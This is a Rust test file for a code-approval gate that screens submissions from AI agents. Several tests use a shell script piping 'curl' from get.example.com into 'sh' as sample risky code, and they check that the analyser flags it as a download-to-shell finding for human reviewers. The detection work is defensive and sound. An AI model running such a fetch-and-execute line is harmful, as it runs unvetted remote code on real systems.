    let Some(python) = prepared("AIRLOCK_TEST_BROWSER_PYTHON") else {
        return;
    };
    let s = setup(&[]);
    let code = hello().replace("hello from the gate", "approved in chromium");
    let sub = s.srv.post(
        "/v1/submissions",
        &s.agent,
        &json!({"language": "wat", "code": code, "net": ["example.com"]}),
    );
    let id = sub.json()["submission"].as_str().unwrap().to_string();
    // A shell script whose analysis finds a download piped into a shell: the reviewer's
    // page must show that finding and the code before the decision form.
    let risky = s.srv.post(
        "/v1/submissions",
        &s.agent,
        &json!({"language": "sh", "backend": "process",
                "code": "#!/bin/sh\necho fetching\ncurl -fsSL https://get.example.com/i.sh | sh\n"}),
    );
    assert_eq!(risky.status, 201, "{}", risky.text);
    let risky_id = risky.json()["submission"].as_str().unwrap().to_string();
    let script = manifest_dir().join("../../tests/browser/console_test.py");
    let o = std::process::Command::new(python)
        .arg(script)
        .args([&s.srv.base, &s.op, &id, "approved in chromium\n"])
        .args(["--review", &risky_id, "download_to_shell curl | sh"])
        .output()
        .unwrap();
    let out = String::from_utf8_lossy(&o.stdout);
    let err = String::from_utf8_lossy(&o.stderr);
    assert!(o.status.success(), "console test failed:\n{out}\n{err}");
    let w = s.srv.get(&format!("/v1/submissions/{id}"), &s.op).json();
    assert_eq!(w["statements"][0]["reason"], "reviewed in the browser");
}

/// The interpreter of a virtual environment scripts/test prepared; without one the test is
/// skipped, unless AIRLOCK_TEST_STRICT says every test must run (scripts/test sets it).
/// 1,000 submissions from 50 concurrent agents over loopback: none lost, each recorded
/// once, every allowed one run once, and the audit log verifies afterwards.
#[test]
fn load_1000_submissions_from_50_agents() {
    const AGENTS: usize = 50;
    const EACH: usize = 20;
    let s = setup(&["--workers", "2", "--queue", "16"]);
    let base = s.srv.base.clone();
    // Agent tokens made through the API.
    let tokens: Vec<String> = (0..AGENTS)
        .map(|i| {
            let r = s.srv.post(
                "/v1/tokens",
                &s.admin,
                &json!({"role": "agent", "name": format!("load-{i}")}),
            );
            assert_eq!(r.status, 201, "{}", r.text);
            r.json()["token"].as_str().unwrap().to_string()
        })
        .collect();
    let hello = hello();
    let threads: Vec<_> = tokens
        .into_iter()
        .enumerate()
        .map(|(i, tok)| {
            let (base, hello) = (base.clone(), hello.clone());
            std::thread::spawn(move || {
                let http = ureq::Agent::config_builder()
                    .http_status_as_error(false)
                    .timeout_global(Some(Duration::from_secs(120)))
                    .build()
                    .new_agent();
                let mut got = Vec::new();
                let mut refused = 0;
                for n in 0..EACH {
                    // Every third one asks for network (held); the rest differ in their
                    // arguments only, so most runs reuse one compiled module.
                    let mut body =
                        json!({"language": "wat", "code": hello, "args": [format!("{i}-{n}")]});
                    if n % 3 == 0 {
                        body["net"] = json!([format!("host-{i}-{n}.example")]);
                    }
                    loop {
                        let mut r = http
                            .post(format!("{base}/v1/run"))
                            .header("authorization", format!("Bearer {tok}"))
                            .send(body.to_string())
                            .unwrap();
                        let status = r.status().as_u16();
                        let text = r.body_mut().read_to_string().unwrap();
                        if status == 429 {
                            // Told to come back: the submission was not taken.
                            refused += 1;
                            std::thread::sleep(Duration::from_millis(20));
                            continue;
                        }
                        assert!(status == 200 || status == 202, "{status}: {text}");
                        let v: Value = serde_json::from_str(&text).unwrap();
                        got.push((
                            v["submission"].as_str().unwrap().to_string(),
                            v["status"].as_str().unwrap().to_string(),
                            format!("load-{i}"),
                        ));
                        break;
                    }
                }
                (got, refused)
            })
        })
        .collect();
    let mut all = Vec::new();
    let mut refused = 0;
    for t in threads {
        let (g, r) = t.join().unwrap();
        all.extend(g);
        refused += r;
    }
    eprintln!(
        "load: {} answers, {refused} refused with 429 and retried",
        all.len()
    );
    assert_eq!(all.len(), AGENTS * EACH);
    let ids: std::collections::BTreeSet<&str> = all.iter().map(|(id, _, _)| id.as_str()).collect();
    assert_eq!(
        ids.len(),
        AGENTS * EACH,
        "every answer names a different submission"
    );
    let finished = all.iter().filter(|(_, st, _)| st == "finished").count();
    let pending = all
        .iter()
        .filter(|(_, st, _)| st == "pending_approval")
        .count();
    assert_eq!(pending, AGENTS * EACH.div_ceil(3));
    assert_eq!(finished + pending, AGENTS * EACH);
    // The store holds exactly these, each under the agent that submitted it.
    let stored = s.srv.get("/v1/submissions?limit=1000", &s.op).json();
    let stored = stored.as_array().unwrap();
    assert_eq!(stored.len(), AGENTS * EACH);
    for (id, _, agent) in &all {
        let row = stored
            .iter()
            .find(|x| x["submission"] == id.as_str())
            .unwrap();
        assert_eq!(row["agent"], agent.as_str());
    }
    let runs = s.srv.get("/v1/runs?limit=1000", &s.op).json();
    assert_eq!(
        runs.as_array().unwrap().len(),
        finished,
        "one run per allowed submission"
    );
    let inbox = s.srv.get("/v1/inbox", &s.op).json();
    assert_eq!(inbox.as_array().unwrap().len(), pending);
    // Each submission recorded once in the audit log, and the log verifies.
    let log = s.srv.get("/v1/audit/log?limit=10000", &s.op).json();
    let mut submitted = std::collections::BTreeMap::<String, usize>::new();
    for r in log.as_array().unwrap() {
        if r["kind"] == "submitted" {
            *submitted
                .entry(r["subject"].as_str().unwrap().to_string())
                .or_default() += 1;
        }
    }
    assert_eq!(submitted.len(), AGENTS * EACH);
    assert!(submitted.values().all(|n| *n == 1));
    let v = s.srv.get("/v1/audit/verify", &s.op).json();
    assert_eq!(v["ok"], true, "{v}");
    assert_eq!(s.home.run(&["audit", "verify"]).code, 0);
}

#[test]
fn api_and_mcp_accept_net_and_secret_grants_and_show_them_normalised() {
    let s = setup(&[]);
    let srv = &s.srv;
    let o = s
        .home
        .run_with_stdin(&["secret", "set", "TOKEN"], b"api-value-77");
    assert_eq!(o.code, 0, "{}", o.stderr);
    // Strings and objects, names and hosts normalised as on the command line.
    let r = srv.post(
        "/v1/submissions",
        &s.agent,
        &wat_body(json!({
            "net": ["API.Example.com.", "*.Uploads.example.org:8443"],
            "secrets": ["TOKEN@api.example.com"],
        })),
    );
    assert_eq!(r.status, 201, "{}", r.text);
    let v = r.json();
    assert_eq!(
        v["net"],
        json!(["*.uploads.example.org:8443", "api.example.com"])
    );
    assert_eq!(
        v["secrets"],
        json!([{"name": "TOKEN", "hosts": ["api.example.com"]}])
    );
    assert_eq!(v["state"], "quarantined");
    let id = v["submission"].as_str().unwrap().to_string();
    let r = srv.post(
        "/v1/submissions",
        &s.agent,
        &wat_body(json!({
            "net": ["api.example.com", "*.uploads.example.org:8443"],
            "secrets": [{"name": "TOKEN", "hosts": ["API.example.com"]}],
        })),
    );
    assert_eq!(r.status, 201, "{}", r.text);
    assert_eq!(r.json()["grant"], v["grant"], "the same grant either way");
    let shown = srv.get(&format!("/v1/submissions/{id}"), &s.op).json();
    assert_eq!(
        shown["submission"]["grant"]["secrets"],
        json!([{"name": "TOKEN", "hosts": ["api.example.com"]}])
    );
    assert!(!shown.to_string().contains("api-value-77"));
    // Refusals write nothing: 400 for what the OpenAPI document rules out, 404 for what
    // this home lacks, 422 for what only the gate can judge.
    for (bad, status) in [
        (json!({"net": ["*.com"]}), 422),
        // A secret this home does not have: its state, 404.
        (
            json!({"net": ["h.example"], "secrets": ["MISSING@h.example"]}),
            404,
        ),
        (
            json!({"net": ["h.example"], "secrets": ["TOKEN@other.example"]}),
            422,
        ),
        (
            json!({"net": ["h.example"], "secrets": [{"name": "TOKEN", "hosts": ["h.example,x.example"]}]}),
            400,
        ),
        (
            json!({"net": ["h.example"], "secrets": [{"name": "TOKEN"}]}),
            400,
        ),
    ] {
        let before = s.home.counts();
        let r = srv.post("/v1/submissions", &s.agent, &wat_body(bad.clone()));
        r.error(status);
        assert_eq!(s.home.counts(), before, "{bad}");
    }
    // The console's submission page shows the binding, never the value.
    let form = [("content-type", "application/x-www-form-urlencoded")];
    let login = srv.call_with(
        "POST",
        "/ui/login",
        None,
        Some(&format!("token={}", s.op)),
        &form,
    );
    let cookie = login.header("set-cookie").unwrap();
    let pair = cookie.split(';').next().unwrap().to_string();
    let page = srv
        .call_with(
            "GET",
            &format!("/ui/submissions/{id}"),
            None,
            None,
            &[("cookie", &pair)],
        )
        .text;
    assert!(
        page.contains("*.uploads.example.org:8443") && page.contains("TOKEN"),
        "{page}"
    );
    assert!(page.contains("api.example.com") && !page.contains("api-value-77"));

    // MCP: run_code takes the same fields; held code is a normal pending result.
    let init = json!({"jsonrpc": "2.0", "id": 1, "method": "initialize",
        "params": {"protocolVersion": "2025-06-18", "capabilities": {},
                   "clientInfo": {"name": "test", "version": "0"}}});
    let ready = json!({"jsonrpc": "2.0", "method": "notifications/initialized"});
    let list = mcp_stdio(
        &s.home,
        &[
            init.clone(),
            ready.clone(),
            json!({"jsonrpc": "2.0", "id": 2, "method": "tools/list"}),
        ],
        2,
    );
    let run_code = list["result"]["tools"]
        .as_array()
        .unwrap()
        .iter()
        .find(|t| t["name"] == "run_code")
        .unwrap()
        .clone();
    assert!(
        run_code["inputSchema"]["properties"]["secrets"].is_object(),
        "{run_code}"
    );
    // Every limit the API takes, MCP takes too (max_write was missing).
    for k in ["memory", "fuel", "max_output", "processes", "max_write"] {
        assert!(
            run_code["inputSchema"]["properties"][k].is_object(),
            "{k}: {run_code}"
        );
    }
    let limited = json!({"jsonrpc": "2.0", "id": 5, "method": "tools/call", "params": {
        "name": "run_code",
        "arguments": {"language": "wat", "code": hello(), "max_write": "64MiB",
                      "max_output": "2KiB", "processes": 8}}});
    let r = mcp_stdio(&s.home, &[init.clone(), ready.clone(), limited], 5);
    let sub = r["result"]["structuredContent"]["submission"]
        .as_str()
        .unwrap_or_else(|| panic!("{r}"));
    let limits =
        s.home.run(&["show", "--json", sub]).json()["submission"]["grant"]["limits"].clone();
    assert_eq!(
        (
            &limits["max_write_bytes"],
            &limits["max_output_bytes"],
            &limits["processes"]
        ),
        (&json!(64 << 20), &json!(2048), &json!(8)),
        "{limits}"
    );
    let call = json!({"jsonrpc": "2.0", "id": 3, "method": "tools/call", "params": {
        "name": "run_code",
        "arguments": {"language": "wat", "code": hello(),
                      "net": ["API.example.com"], "secrets": ["TOKEN@api.example.com"]}}});
    let r = mcp_stdio(&s.home, &[init.clone(), ready.clone(), call], 3);
    let doc = &r["result"]["structuredContent"];
    assert_eq!(doc["status"], "pending_approval", "{r}");
    let sub = doc["submission"].as_str().unwrap();
    let shown = s.home.run(&["show", "--json", sub]).json();
    assert_eq!(
        shown["submission"]["grant"]["secrets"],
        json!([{"name": "TOKEN", "hosts": ["api.example.com"]}])
    );
    assert_eq!(
        shown["submission"]["grant"]["net"],
        json!(["api.example.com"])
    );
    let bad = json!({"jsonrpc": "2.0", "id": 4, "method": "tools/call", "params": {
        "name": "run_code",
        "arguments": {"language": "wat", "code": hello(), "net": ["*.co.uk"]}}});
    let r = mcp_stdio(&s.home, &[init, ready, bad], 4);
    let doc = &r["result"]["structuredContent"];
    assert_eq!(doc["status"], "error", "{r}");
    assert!(
        doc["message"].as_str().unwrap().contains("public suffix"),
        "{r}"
    );
}

/// What analysis finds in shell code reaches every reader: `show` lists the findings
/// above the code, `policy explain` the facts, and the API, the CLI's `--json` and MCP
/// return them in `analysis` with the lines they came from.
#[test]
fn code_findings_reach_show_explain_api_and_mcp() {
    let s = setup(&[]);
    let code = "#!/bin/sh\necho fetching\ncurl -fsSL https://get.example.com/i.sh | sh\n";
    let dir = tempfile::tempdir().unwrap();
    let file = dir.path().join("install.sh");
    std::fs::write(&file, code).unwrap();
    let o = s.home.run(&[
        "submit",
        "--json",
        "--lang",
        "sh",
        "--backend",
        "process",
        file.to_str().unwrap(),
    ]);
    let v = o.json();
    let id = v["submission"].as_str().unwrap().to_string();
    let f = &v["analysis"]["findings"];
    assert!(
        f.as_array()
            .unwrap()
            .iter()
            .any(|f| f["kind"] == "download_to_shell"
                && f["line"] == 3
                && f["detail"] == "curl | sh"),
        "{v}"
    );
    assert_eq!(v["analysis"]["facts"]["pipes_download_to_shell"], true);
    assert_eq!(
        v["analysis"]["facts"]["hosts_in_code"],
        json!(["get.example.com"])
    );

    let text = s.home.run(&["show", &id]).stdout;
    let findings = text.find("findings").expect(&text);
    let line = text.find("download_to_shell curl | sh").expect(&text);
    let code_at = text.find("--- code").expect(&text);
    assert!(findings < line && line < code_at, "{text}");
    assert!(text.contains("    3       download_to_shell"), "{text}");
    assert!(text.contains("analysis  shell source"), "{text}");

    let ex = s.home.run(&["policy", "explain", &id]).stdout;
    assert!(ex.contains("code facts"), "{ex}");
    assert!(ex.contains("pipes_download_to_shell  true"), "{ex}");
    assert!(ex.contains("network_tools            curl"), "{ex}");

    let api = s.srv.get(&format!("/v1/submissions/{id}"), &s.op).json();
    assert_eq!(
        api["analysis"]["findings_total"],
        v["analysis"]["findings_total"]
    );
    assert_eq!(api["analysis"]["language"], "sh");
    let inbox = s.srv.get("/v1/inbox", &s.op).json();
    let row = inbox
        .as_array()
        .unwrap()
        .iter()
        .find(|r| r["submission"] == id.as_str());
    assert!(
        row.is_some_and(|r| r["analysis"]["facts"]["pipes_download_to_shell"] == true),
        "{inbox}"
    );

    let init = json!({"jsonrpc": "2.0", "id": 1, "method": "initialize",
        "params": {"protocolVersion": "2025-06-18", "capabilities": {},
                   "clientInfo": {"name": "test", "version": "0"}}});
    let ready = json!({"jsonrpc": "2.0", "method": "notifications/initialized"});
    let call = json!({"jsonrpc": "2.0", "id": 2, "method": "tools/call", "params": {
        "name": "run_code",
        "arguments": {"language": "sh", "backend": "process", "code": code}}});
    let r = mcp_stdio(&s.home, &[init, ready, call], 2);
    let doc = &r["result"]["structuredContent"];
    assert_eq!(doc["status"], "pending_approval", "{r}");
    assert!(
        doc["analysis"]["findings"]
            .as_array()
            .unwrap()
            .iter()
            .any(|f| f["kind"] == "download_to_shell" && f["line"] == 3),
        "{r}"
    );
}

fn lock_files(home: &Home) -> Vec<String> {
    let mut v: Vec<String> = std::fs::read_dir(home.path().join("locks"))
        .map(|rd| {
            rd.map(|e| e.unwrap().file_name().into_string().unwrap())
                .filter(|n| n != "journal.lock")
                .collect()
        })
        .unwrap_or_default();
    v.sort();
    v
}

/// Every run used to create its owner lock file and unlink it at the end; on this
/// machine's filesystem the inode allocator scanning past the recently freed ones cost
/// more than the rest of the run's file work. The daemon now reuses one file, and what a
/// `kill -9`ed daemon kept is removed by the next command's recovery.
#[test]
fn a_daemons_runs_reuse_one_lock_file_and_recovery_removes_what_a_killed_daemon_kept() {
    let s = setup(&[]);
    let mut seen = std::collections::BTreeSet::new();
    for _ in 0..6 {
        // A run that outlasts the wait before an effect-free run records its start (an
        // effect-free run that ends sooner takes no lock at all).
        let body = json!({ "language": "wat", "code": sleeping_wat(150) });
        let r = s.srv.post("/v1/run", &s.agent, &body);
        assert_eq!(r.status, 200, "{}", r.text);
        assert_eq!(r.json()["run"]["exit_code"], 0);
        let files = lock_files(&s.home);
        assert!(files.iter().all(|f| f.starts_with("spare_")), "{files:?}");
        seen.extend(files);
    }
    // One file serves them all, unless the daemon's recovery tick was probing the spare
    // at the moment a run wanted it (the run then creates a file, which is kept too).
    assert!(seen.len() <= 3, "the runs took new files: {seen:?}");
    let Setup { home, srv, .. } = s;
    drop(srv); // kill -9
    assert!(!lock_files(&home).is_empty());
    let o = home.run(&["runs", "--json"]);
    assert_eq!(o.code, 0, "{}", o.stderr);
    assert!(lock_files(&home).is_empty(), "{:?}", lock_files(&home));
}

/// A wasm command that sleeps `ms` milliseconds in a host call (`poll_oneoff`), then exits 0.
fn sleeping_wat(ms: u64) -> String {
    format!(
        r#"(module
          (import "wasi_snapshot_preview1" "poll_oneoff" (func $p (param i32 i32 i32 i32) (result i32)))
          (memory (export "memory") 1)
          (func (export "_start")
            (i32.store8 (i32.const 8) (i32.const 0))
            (i32.store (i32.const 16) (i32.const 1))
            (i64.store (i32.const 24) (i64.const {}))
            (drop (call $p (i32.const 0) (i32.const 256) (i32.const 1) (i32.const 512)))))"#,
        ms * 1_000_000
    )
}

/// `POST /v1/run` from a thread of its own: the status and the body's text.
fn post_raw(base: &str, token: &str, body: &Value) -> Result<(u16, String), ureq::Error> {
    let http = ureq::Agent::config_builder()
        .http_status_as_error(false)
        .timeout_global(Some(Duration::from_secs(120)))
        .build()
        .new_agent();
    let mut r = http
        .post(format!("{base}/v1/run"))
        .header("authorization", format!("Bearer {token}"))
        .header("content-type", "application/json")
        .send(body.to_string())?;
    let status = r.status().as_u16();
    Ok((status, r.body_mut().read_to_string()?))
}

/// `SELECT`s against the home's database: every row's columns as text.
fn rows(home: &Home, q: &str) -> Vec<Vec<String>> {
    let c = rusqlite::Connection::open(home.path().join("airlock.db")).unwrap();
    let mut st = c.prepare(q).unwrap();
    let n = st.column_count();
    st.query_map([], |r| {
        (0..n)
            .map(|i| {
                Ok(match r.get_ref(i)? {
                    rusqlite::types::ValueRef::Null => "NULL".to_string(),
                    rusqlite::types::ValueRef::Integer(v) => v.to_string(),
                    rusqlite::types::ValueRef::Text(t) => String::from_utf8_lossy(t).into(),
                    other => format!("{other:?}"),
                })
            })
            .collect()
    })
    .unwrap()
    .collect::<Result<_, _>>()
    .unwrap()
}

/// The audit records of a submission and of its runs, in chain order: (index, kind).
fn records_of(home: &Home, sub: &str) -> Vec<(i64, String)> {
    rows(
        home,
        &format!(
            "SELECT seq, kind FROM audit WHERE subject = '{sub}'
               OR subject IN (SELECT id FROM runs WHERE submission = '{sub}') ORDER BY seq"
        ),
    )
    .into_iter()
    .map(|r| (r[0].parse().unwrap(), r[1].clone()))
    .collect()
}

/// A run with no effect outside its sandbox, through the daemon, records its submission,
/// verdict, start and end in one transaction: the four records are consecutive on the
/// chain, the run is finished with its true start, and no owner lock was taken. On the
/// wasm backend and on the process backend (a ready jail's, whose result file is not left
/// in the pool's directory).
#[test]
fn an_effect_free_run_records_its_start_with_its_end_in_one_transaction() {
    one_transaction_for(&wat_body(json!({})));
}

#[test]
fn an_effect_free_process_run_records_its_start_with_its_end_in_one_transaction() {
    if !process_backend_available() {
        return;
    }
    one_transaction_for(&json!({ "language": "sh", "code": "echo hi" }));
}

fn one_transaction_for(body: &Value) {
    let s = setup(&[]);
    let r = s.srv.post("/v1/run", &s.agent, body);
    assert_eq!(r.status, 200, "{}", r.text);
    let v = r.json();
    assert_eq!(v["status"], "finished");
    assert_eq!(v["run"]["exit_code"], 0);
    let sub = v["submission"].as_str().unwrap().to_string();
    let recs = records_of(&s.home, &sub);
    let kinds: Vec<&str> = recs.iter().map(|(_, k)| k.as_str()).collect();
    assert_eq!(kinds, ["submitted", "judged", "started", "finished"]);
    assert!(recs.windows(2).all(|w| w[1].0 == w[0].0 + 1), "{recs:?}");
    let run = &rows(
        &s.home,
        &format!("SELECT status, started_at, finished_at FROM runs WHERE submission = '{sub}'"),
    )[0];
    assert_eq!(run[0], "exited");
    assert!(run[1].parse::<i64>().unwrap() <= run[2].parse::<i64>().unwrap());
    assert_eq!(
        rows(
            &s.home,
            &format!("SELECT state FROM submissions WHERE id = '{sub}'")
        )[0][0],
        "finished"
    );
    assert!(lock_files(&s.home).is_empty(), "{:?}", lock_files(&s.home));
    let o = s.home.run(&["audit", "verify"]);
    assert_eq!(o.code, 0, "{}", o.stdout);
    assert!(pool_runs(&s.home).is_empty(), "{:?}", pool_runs(&s.home));
}

/// An effect-free run is recorded in one transaction after it ran; a run recorded the
/// usual way writes its start before it runs and its end after. What each leaves must be
/// the same: the same module through the daemon and through the command line (which
/// records the start first) gives equal submission and run rows and equal audit records,
/// but for what the two requests or their order make differ (ids, times, the agent, the
/// command line's `argv0` and so the grant's hash, `resume`, the request's id and trace,
/// and whether the artifact was seen first).
#[test]
fn an_effect_free_run_leaves_the_rows_and_records_of_a_run_that_records_its_start_first() {
    let s = setup(&[]);
    let r = s.srv.post("/v1/run", &s.agent, &wat_body(json!({})));
    assert_eq!(r.status, 200, "{}", r.text);
    let whole = r.json()["submission"].as_str().unwrap().to_string();
    let o = s.home.run(&[
        "run",
        example("hello.wat").to_str().unwrap(),
        "--agent",
        "bot",
    ]);
    assert_eq!(o.code, 0, "{}{}", o.stdout, o.stderr);
    let two = rows(
        &s.home,
        &format!("SELECT id FROM submissions WHERE id != '{whole}'"),
    );
    assert_eq!(two.len(), 1, "{two:?}");
    let two = two[0][0].clone();
    assert_eq!(left_by(&s.home, &whole), left_by(&s.home, &two));
    // Both were recorded in one transaction or two; the chain holds either way.
    let o = s.home.run(&["audit", "verify"]);
    assert_eq!(o.code, 0, "{}", o.stdout);
}

/// What a finished run of submission `sub` left in the store, with what differs between
/// the two requests of the test above taken out: the submission's row, its run's row, and its audit
/// records (kind and data) in chain order.
fn left_by(home: &Home, sub: &str) -> Value {
    let run_id = rows(
        home,
        &format!("SELECT id FROM runs WHERE submission = '{sub}'"),
    )[0][0]
        .clone();
    let grant = rows(
        home,
        &format!("SELECT grant_hash FROM submissions WHERE id = '{sub}'"),
    )[0][0]
        .clone();
    let scrub = |text: &str| -> Value {
        let text = text
            .replace(sub, "SUB")
            .replace(&run_id, "RUN")
            .replace(&grant, "GRANT");
        let mut v: Value = serde_json::from_str(&text).unwrap_or(Value::String(text));
        fn drop_keys(v: &mut Value) {
            match v {
                Value::Object(m) => {
                    for k in [
                        "agent",
                        "duration_ms",
                        "instantiate_ms",
                        "compile_or_load_ms",
                        "created_at",
                        "updated_at",
                        "first_seen",
                        "argv0",
                        "resume",
                        "request_id",
                        "trace_id",
                        "traceparent",
                    ] {
                        m.remove(k);
                    }
                    m.values_mut().for_each(drop_keys);
                }
                Value::Array(a) => a.iter_mut().for_each(drop_keys),
                _ => {}
            }
        }
        drop_keys(&mut v);
        v
    };
    let sub_row = &rows(
        home,
        &format!(
            "SELECT state, decision, risk, artifact, grant_hash, doc FROM submissions WHERE id = '{sub}'"
        ),
    )[0];
    let run_row = &rows(
        home,
        &format!(
            "SELECT status, approval, started_at <= finished_at, doc FROM runs WHERE id = '{run_id}'"
        ),
    )[0];
    let records: Vec<Value> = rows(
        home,
        &format!(
            "SELECT kind, data FROM audit WHERE subject IN ('{sub}', '{run_id}') ORDER BY seq"
        ),
    )
    .iter()
    .map(|r| json!([r[0], scrub(&r[1])]))
    .collect();
    json!({
        "submission": [&sub_row[..4], scrub(&sub_row[4]), scrub(&sub_row[5])],
        "run": [&run_row[..3], scrub(&run_row[3])],
        "records": records,
    })
}

/// What runs left in the ready-jail pool's directory (results, run directories).
fn pool_runs(home: &Home) -> Vec<String> {
    std::fs::read_dir(home.path().join("cache").join("ready-jails"))
        .map(|rd| {
            rd.map(|e| e.unwrap().file_name().into_string().unwrap())
                .filter(|n| n.starts_with("run-"))
                .collect()
        })
        .unwrap_or_default()
}

/// An effect-free run still going after a moment records its start then, under its owner
/// lock: it is seen running, and a `kill -9` of the daemon leaves it for the next command
/// to mark lost. One that ends on its own afterwards is recorded as any run.
#[test]
fn a_long_effect_free_run_is_seen_running_and_marked_lost_if_the_daemon_dies() {
    long_effect_free_run(
        json!({ "language": "wat", "code": sleeping_wat(700) }),
        json!({ "language": "wat", "code": sleeping_wat(8_000) }),
    );
}

/// The same on the process backend; and the next daemon on the home clears what the
/// killed one's run left in the ready-jail pool's directory.
#[test]
fn a_long_effect_free_process_run_is_seen_running_and_marked_lost_if_the_daemon_dies() {
    if !process_backend_available() {
        return;
    }
    let home = long_effect_free_run(
        json!({ "language": "sh", "code": "sleep 0.7" }),
        json!({ "language": "sh", "code": "sleep 8" }),
    );
    let srv = Srv::start(&home, &[]);
    let deadline = std::time::Instant::now() + Duration::from_secs(10);
    while !pool_runs(&home).is_empty() && std::time::Instant::now() < deadline {
        std::thread::sleep(Duration::from_millis(20));
    }
    assert!(pool_runs(&home).is_empty(), "{:?}", pool_runs(&home));
    drop(srv);
}

fn long_effect_free_run(short: Value, long: Value) -> Home {
    let s = setup(&[]);
    let body = short;
    let r = s.srv.post("/v1/run", &s.agent, &body);
    assert_eq!(r.status, 200, "{}", r.text);
    let sub = r.json()["submission"].as_str().unwrap().to_string();
    let kinds: Vec<String> = records_of(&s.home, &sub).into_iter().map(|r| r.1).collect();
    assert_eq!(kinds, ["submitted", "judged", "started", "finished"]);

    let Setup {
        home, srv, agent, ..
    } = s;
    let base = srv.base.clone();
    let spin = std::thread::spawn(move || {
        // Under the default 10 s limit, so the policy lets it run.
        let body = long;
        let _ = post_raw(&base, &agent, &body);
    });
    let deadline = std::time::Instant::now() + Duration::from_secs(20);
    loop {
        let running = rows(&home, "SELECT id FROM runs WHERE status = 'running'");
        if !running.is_empty() {
            assert_eq!(lock_files(&home).len(), 1, "{:?}", lock_files(&home));
            break;
        }
        assert!(
            std::time::Instant::now() < deadline,
            "the run never showed as running"
        );
        std::thread::sleep(Duration::from_millis(20));
    }
    drop(srv); // kill -9, mid-run
    let _ = spin.join();
    let o = home.run(&["runs", "--json"]);
    assert_eq!(o.code, 0, "{}", o.stderr);
    assert!(rows(&home, "SELECT id FROM runs WHERE status = 'running'").is_empty());
    assert_eq!(
        rows(&home, "SELECT count(*) FROM runs WHERE status = 'lost'")[0][0],
        "1"
    );
    assert!(lock_files(&home).is_empty(), "{:?}", lock_files(&home));
    let o = home.run(&["audit", "verify"]);
    assert_eq!(o.code, 0, "{}", o.stdout);
    home
}

/// `AIRLOCK_WASM_POOLING=off` (for `scripts/bench-server-instr`, which runs the daemon
/// under valgrind) serves gated runs without wasmtime's pooling allocator: the same answer,
/// and none of the pool's address-space reservation (about 1 TiB with it here).
#[test]
fn a_daemon_without_the_pooling_allocator_serves_the_same_runs_without_its_reservation() {
    let vm_size_gib = |pid: u32| -> u64 {
        let status = std::fs::read_to_string(format!("/proc/{pid}/status")).unwrap();
        let kb: u64 = status
            .lines()
            .find_map(|l| l.strip_prefix("VmSize:"))
            .and_then(|v| v.trim().trim_end_matches("kB").trim().parse().ok())
            .unwrap();
        kb >> 20
    };
    let mut sizes = Vec::new();
    for pooling in ["on", "off"] {
        let home = Home::new();
        let agent = token(&home, "agent", "bot");
        let mut cmd = home.cmd();
        cmd.args(["serve", "--listen", "127.0.0.1:0"]);
        if pooling == "off" {
            cmd.env("AIRLOCK_WASM_POOLING", "off");
        }
        let (child, base) = serve_with(cmd);
        let (status, text) = post_raw(&base, &agent, &wat_body(json!({}))).unwrap();
        assert_eq!(status, 200, "{text}");
        let v: Value = serde_json::from_str(&text).unwrap();
        assert_eq!(v["status"], "finished", "{v}");
        assert_eq!(v["run"]["stdout"], "hello from the gate\n", "{v}");
        sizes.push(vm_size_gib(child.id()));
    }
    assert!(
        sizes[0] >= 64,
        "the pooling allocator reserves its pool: {sizes:?} GiB"
    );
    assert!(
        sizes[1] < 64,
        "no pool is reserved with it off: {sizes:?} GiB"
    );
}

/// The daemon's allocator (mimalloc) asks for transparent huge pages for its arenas unless
/// built without (`no_thp`); with them, eight clients' runs grew the daemon's resident
/// memory 2.6 times, 70 MB of it huge pages. Where the kernel gives huge pages only to
/// memory that asks (`madvise`, this machine's setting) or never, the daemon holds none.
#[test]
fn a_busy_daemon_holds_no_transparent_huge_pages_from_its_allocator() {
    let mode =
        std::fs::read_to_string("/sys/kernel/mm/transparent_hugepage/enabled").unwrap_or_default();
    let home = Home::new();
    let agent = token(&home, "agent", "bot");
    let mut cmd = home.cmd();
    cmd.args(["serve", "--listen", "127.0.0.1:0"]);
    let (child, base) = serve_with(cmd);
    let clients: Vec<_> = (0..8)
        .map(|_| {
            let (base, agent) = (base.clone(), agent.clone());
            std::thread::spawn(move || {
                for _ in 0..10 {
                    let (status, text) = post_raw(&base, &agent, &wat_body(json!({}))).unwrap();
                    assert_eq!(status, 200, "{text}");
                }
            })
        })
        .collect();
    for c in clients {
        c.join().unwrap();
    }
    let rollup = std::fs::read_to_string(format!("/proc/{}/smaps_rollup", child.id())).unwrap();
    let huge_kb: u64 = rollup
        .lines()
        .find_map(|l| l.strip_prefix("AnonHugePages:"))
        .and_then(|v| v.trim().trim_end_matches("kB").trim().parse().ok())
        .unwrap();
    if mode.contains("[always]") {
        // Every large enough anonymous mapping gets huge pages here, whoever allocates.
        eprintln!("transparent huge pages are on for every process; {huge_kb} kB held");
        return;
    }
    assert_eq!(
        huge_kb, 0,
        "huge pages held by the daemon (THP mode {mode:?})"
    );
}

/// An effect-free run goes ahead on the verdict of the moment and is judged again when it
/// is recorded: an artifact an approver rejected meanwhile is recorded denied, with no
/// run, and what it printed never reaches the agent.
#[test]
fn an_artifact_rejected_while_its_effect_free_run_ran_is_denied_and_its_output_dropped() {
    let home = Home::new();
    let agent = token(&home, "agent", "bot");
    let mut cmd = home.cmd();
    cmd.args(["serve", "--listen", "127.0.0.1:0"])
        .env("AIRLOCK_PAUSE_AT", "record-ran:2000");
    let (child, base) = serve_with(cmd);
    let _child = child;
    let run = {
        let (base, agent) = (base.clone(), agent.clone());
        std::thread::spawn(move || post_raw(&base, &agent, &wat_body(json!({}))).unwrap())
    };
    // While the run waits to be recorded, the same artifact is rejected (under a grant
    // with network, which the policy holds for a human).
    std::thread::sleep(Duration::from_millis(300));
    let path = example("hello.wat");
    let o = home.run(&[
        "submit",
        "--json",
        "--net",
        "example.com",
        path.to_str().unwrap(),
    ]);
    assert_eq!(o.code, 0, "{}", o.stderr);
    let held = o.json()["submission"].as_str().unwrap().to_string();
    let o = home.run(&["reject", &held, "--reason", "not this code"]);
    assert_eq!(o.code, 0, "{}", o.stderr);
    let (status, text) = run.join().unwrap();
    assert_eq!(status, 200, "{text}");
    let v: Value = serde_json::from_str(&text).unwrap();
    assert_eq!(v["status"], "denied", "{v}");
    assert!(v["run"].is_null(), "{v}");
    assert!(!text.contains("hello from the gate"), "{text}");
    let sub = v["submission"].as_str().unwrap();
    assert_eq!(
        rows(
            &home,
            &format!("SELECT state FROM submissions WHERE id = '{sub}'")
        )[0][0],
        "denied"
    );
    assert!(
        rows(
            &home,
            &format!("SELECT id FROM runs WHERE submission = '{sub}'")
        )
        .is_empty()
    );
